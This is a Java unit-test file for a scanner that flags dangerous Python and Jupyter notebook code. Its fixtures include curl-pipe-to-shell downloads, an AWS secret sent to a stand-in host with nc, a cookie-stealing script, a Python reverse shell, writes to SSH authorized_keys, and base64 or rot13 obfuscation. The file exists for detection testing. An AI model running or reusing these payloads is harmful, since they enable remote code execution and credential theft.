package io.casemate.scan.python;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.spi.Content;
import io.casemate.scan.spi.Recognition;
import io.casemate.scan.trial.Trial;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class PythonScannerTest {
    private static final PythonScanner SCANNER = new PythonScanner();

    private static Trial read(String source) {
        return Trial.of(SCANNER, source.getBytes(StandardCharsets.UTF_8));
    }

    private static Recognition recognised(String source) {
        return SCANNER.recognises(Content.of("x", source.getBytes(StandardCharsets.UTF_8)));
    }

    private static String notebook(String source) {
        return "{\"cells\": [{\"cell_type\": \"code\", \"outputs\": [], \"source\": [\"%s\"]}], \"nbformat\": 4}"
                .formatted(source.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!wget -q https://archive.example.org/iris/iris.data",
                "!curl -L -o data.zip https://example.org/data.zip\n!unzip -q data.zip",
                "!pip install -q transformers",
                "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
                "%%bash\npip install -r requirements.txt\npython train.py",
                "%%html\n<b>x</b>",
                "get_ipython().system('nvidia-smi')"
            })
    void a_notebook_that_fetches_data_is_clean(String source) {
        assertThat(read(notebook(source)).rules()).as(source).isSubsetOf("python/noted-call");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%%bash\nwget -qO- http://host.example/p | bash",
                "%%script bash\ncurl -s http://host.example/p | sh",
                "!!curl -s http://host.example/p | sh",
                "%sx curl -s http://host.example/p | sh",
                "!wget http://host.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p",
                "!pip install --index-url http://host.example/simple evil",
                "%pip install --extra-index-url http://host.example/simple evil",
                "get_ipython().system('curl -s http://host.example/p | sh')",
                "get_ipython().system('echo ' + os.environ.get('AWS_SECRET_ACCESS_KEY', '') + ' | nc host.example 99')"
            })
    void a_notebook_that_runs_what_it_fetches_is_told(String source) {
        assertThat(read(notebook(source)).rules())
                .as(source)
                .containsAnyOf("python/dangerous-call", "python/risky-call");
    }

    @Test
    void a_script_in_stored_output_is_told_where_it_reaches_for_what_is_the_readers() {
        String page =
                "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"1\"], \"outputs\": [{\"data\": {\"text/html\":"
                        + " [\"<script>%s</script>\"]}}]}], \"nbformat\": 4}";
        assertThat(read(page.formatted("fetch('http://host.example/' + document.cookie)"))
                        .rules())
                .containsExactly("python/notebook-page");
        assertThat(read(page.formatted("Plotly.newPlot('a', [])")).rules()).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(HonestSource.class)
    void honest_source_is_clean(HonestSource honest) {
        Trial trial = read(honest.source);

        assertThat(recognised(honest.source)).isEqualTo(Recognition.POSSIBLE);
        assertThat(trial.accepted).isTrue();
        assertThat(trial.rules()).as("%s", trial.findings).isSubsetOf("python/noted-call");
        assertThat(trial.gaps).isEmpty();
        assertThat(trial.coveredAll(honest.source.length())).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os\nos.system('id')\n",
                "import os as o\nx = o\nx.system('id')\n",
                "from os import system as s\ns('id')\n",
                "from os import *\nsystem('id')\n",
                "__import__('os').system('id')\n",
                "__import__('o' + 's').system('id')\n",
                "import importlib\nimportlib.import_module('subprocess').run(['id'])\n",
                "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
                "import os\nf = os.system if os.name else print\nf('id')\n",
                "import os\nif os.name:\n    f = os.system\nelse:\n    f = print\nf('id')\n",
                "import os\ndef run():\n    os.system('id')\nrun()\n",
                "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
                "import os\nclass A:\n    x = os.system('id')\n",
                "import os\ndef f(x=os.system('id')):\n    pass\n",
                "import os\n@(lambda f: os.system('id'))\ndef f():\n    pass\n",
                "import os\n@run\ndef f():\n    pass\ndef run(f):\n    pass\nlist(map(os.system, ['id']))\n",
                "import os\n(lambda: os.system('id'))()\n",
                "import sys\nsys.modules['os'].system('id')\n",
                "import subprocess\nwith subprocess.Popen(['id']) as p:\n    p.wait()\n",
                "exec(\"import os\\nos.system('id')\")\n",
                "import urllib.request\nexec(urllib.request.urlopen('http://x').read())\n",
                "import requests\nexec(requests.get('http://x').text)\n",
                "import os\ndef forward(x):\n    os.system('curl http://x | sh')\n",
                "import os\nos.popen('id').read()\n",
                "𝘦𝘹𝘦𝘤('import os; os.system(\"id\")')\n",
                "import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')\n",
                "import os\n[os.system(c) for c in ['id']]\n",
                "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
                "open('/home/ana/.ssh/authorized_keys', 'a').write('x')\n",
                "import pathlib\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.open('a').write('x')\n",
                "from pathlib import Path\n(Path.home() / '.ssh' / 'config').write_text('x')\n",
                "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n",
                "import site\nopen(site.getusersitepackages() + '/a.pth', 'w').write('x')\n",
                "class A:\n    x: __import__('os').system('id') = 1\n",
                "import os\ndef f(x: os.system('id')):\n    pass\n",
                "import os\ndef f() -> os.system('id'):\n    pass\n",
                "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
                "import operator, os\noperator.attrgetter('system')(os)('id')\n",
                "import torch.utils.cpp_extension as c\nc.load_inline('x', ['int f() { return system(\"id\"); }'])\n"
            })
    void what_runs_on_import_is_dangerous(String source) {
        assertThat(read(source).rules()).as(source).contains("python/dangerous-call");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                "import base64 as b, zlib\ncode = zlib.decompress(b.b64decode(data))\nexec(code.decode())\n",
                "exec(''.join(chr(c - 1) for c in [113, 115, 106]))\n",
                "exec(bytes.fromhex('7072696e74').decode())\n",
                "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
                "exec(')1(tnirp'[::-1])\n",
                "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))\n",
                "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
                "def f(self):\n    import base64\n    exec(base64.b64decode(self.x))\n",
                "# coding: utf-7\nprint(1)\n",
                "# coding: rot13\ncevag(1)\n",
                "# -*- coding: rot_13 -*-\ncevag(1)\n",
                "# coding=unicode_escape\nprint(1)\n",
                "# coding: hex\nprint(1)\n",
                "#!/usr/bin/python\n# vim: set fileencoding=cp037 :\nprint(1)\n",
                "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n"
            })
    void decoded_code_is_obfuscated(String source) {
        assertThat(read(source).rules()).as(source).contains("python/obfuscated");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import subprocess\ndef f():\n    subprocess.run('id', shell=True)\n",
                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
                "import ctypes\nlib = ctypes.CDLL('./x.so')\n",
                "def f(code):\n    exec(code)\n",
                "@exec\ndef f():\n    pass\n",
                "import webbrowser\nwebbrowser.open('http://h.example/?x=1')\n",
                "import importlib\ndef f(n):\n    importlib.import_module(n).system('id')\n"
            })
    void what_a_function_runs_is_risky(String source) {
        assertThat(read(source).rules()).as(source).containsExactly("python/risky-call");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "from __future__ import annotations\nimport os\ndef f(x: os.system('id')):\n    pass\n",
                "import torch.utils.cpp_extension as c\nc.load_inline('x', ['at::Tensor f(at::Tensor x) { return x; }'])\n",
                "from pathlib import Path\n(Path(__file__).parent / 'vocab.txt').read_text()\n",
                "𝓵𝓮𝓷('x')\nhandlers = {'eval': 1}\nhandlers['eval']\n",
                "import operator\nnames = list(map(operator.attrgetter('name'), models))\n",
                "import importlib\ndef f(n):\n    return importlib.import_module(n).run(1)\n"
            })
    void what_only_looks_like_it_is_not_told(String source) {
        assertThat(read(source).rules()).as(source).isSubsetOf("python/noted-call");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import builtins\nbuiltins.print = evil\n",
                "import os\ndef f(n):\n    return getattr(os, n)\n",
                "x = ().__class__.__base__.__subclasses__()\n",
                "def f(g):\n    return g.__globals__['os']\n",
                "import builtins\nf = vars(builtins)['ev' + 'al']\n",
                "f = globals()['__builtins__'].__dict__['exec']\n",
                "import os\nf = 𝓮𝓿𝓪𝓵\n"
            })
    void climbing_to_the_interpreter_is_told(String source) {
        assertThat(read(source).rules()).as(source).containsExactly("python/object-walk");
    }

    @Test
    void operators_of_unknown_libraries_are_told() {
        String script =
                "class M(Module):\n  def forward(self, x):\n    a = ops.aten.relu(x)\n    return ops.mylib.evil(a)\n";

        assertThat(read(script).rules()).containsExactly("python/custom-operator");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Once upon a time there was a model. It was trained (slowly).\nAnd import is a word from the start.\n",
                "{\"a\": [1, 2, 3]}\n",
                "import x from 'y';\nconst f = (a) => { return a; };\nexec(1);\n",
                "#include <stdio.h>\nint main(void) {\n  system(\"id\");\n}\n",
                "# Model card\n\nUse it like this:\n\n```python\nimport torch\nmodel = torch.load('x')\n```\n\nIt's great, isn't it?\n"
            })
    void other_text_is_not_claimed(String text) {
        Trial trial = read(text);

        assertThat(trial.rejected).as(text).isTrue();
        assertThat(trial.accepted).isFalse();
    }

    @Test
    void cells_of_a_notebook_are_read() {
        String notebook = """
                {"cells": [
                  {"cell_type": "markdown", "source": ["import os"]},
                  {"cell_type": "code", "source": ["!pip install torch\\n", "%matplotlib inline\\n", "import os"]},
                  {"cell_type": "code", "source": "os.system('curl http://x | bash')"}
                ], "nbformat": 4}
                """;

        assertThat(read(notebook).rules()).contains("python/dangerous-call");
        assertThat(read(notebook.replace("| bash", "-o x")).rules()).doesNotContain("python/dangerous-call");
    }

    @Test
    void every_prefix_and_depth_ends() {
        String source = HonestSource.MODEL.source;
        for (int n = 0; n < source.length(); n += 11) {
            read(source.substring(0, n));
        }
        Trial deep = read("import x\nf" + "(a".repeat(2_000) + ")".repeat(2_000) + "\n");
        assertThat(deep.rejected || !deep.gaps.isEmpty()).isTrue();
    }

    @Test
    void a_table_with_words_in_brackets_is_no_program() {
        String table = "Format: ASCII\n  Data   (lines 61 to 90)\n" + "1 1.4\n".repeat(3000);
        assertThat(Trial.of(SCANNER, table.getBytes(StandardCharsets.UTF_8)).accepted)
                .isFalse();
    }

    @Test
    void operators_of_torchscript_that_reach_files_are_told() {
        for (String call : new String[] {
            "torch.save(x, \"/tmp/a\")", "torch.from_file(\"/etc/passwd\", False, 9)",
            "ops.image.write_file(\"/tmp/a\", x)", "ops.torchaudio.sox_io_load_audio_file(\"/tmp/a\")"
        }) {
            String script = "class M(Module):\n  def forward(self, x):\n    a = %s\n    return a\n".formatted(call);
            assertThat(read(script).rules()).as(call).containsExactly("python/risky-call");
        }
    }
}
